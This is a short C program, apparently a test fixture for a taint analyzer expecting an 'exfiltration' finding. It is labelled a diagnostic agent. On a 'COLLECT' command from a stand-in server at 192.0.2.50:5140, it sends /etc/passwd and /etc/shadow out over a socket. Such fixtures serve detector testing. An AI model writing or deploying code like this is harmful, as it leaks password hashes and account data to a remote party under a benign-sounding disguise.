// blind-expect: taint.exfiltration
// Diagnostic agent that, on request from a monitoring server, returns the contents of local account files.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const collected[] = { "/etc/passwd", "/etc/shadow", "/etc/hosts" };

static void stream_file(int sock, const char *path)
{
    char buf[2048];
    ssize_t n;
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    dprintf(sock, "--- %s ---\n", path);
    while ((n = read(fd, buf, sizeof buf)) > 0) {
        if (write(sock, buf, (size_t)n) != n)
            break;
    }
    close(fd);
}

int main(void)
{
    struct sockaddr_in sa;
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    if (sock < 0)
        return 1;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(5140);
    inet_pton(AF_INET, "192.0.2.50", &sa.sin_addr);
    if (connect(sock, (struct sockaddr *)&sa, sizeof sa) != 0) {
        perror("connect");
        return 1;
    }
    for (;;) {
        char cmd[64];
        ssize_t n = read(sock, cmd, sizeof cmd - 1);
        if (n <= 0)
            break;
        cmd[n] = '\0';
        if (strncmp(cmd, "COLLECT", 7) == 0) {
            for (size_t i = 0; i < sizeof collected / sizeof collected[0]; i++)
                stream_file(sock, collected[i]);
        }
    }
    close(sock);
    return 0;
}
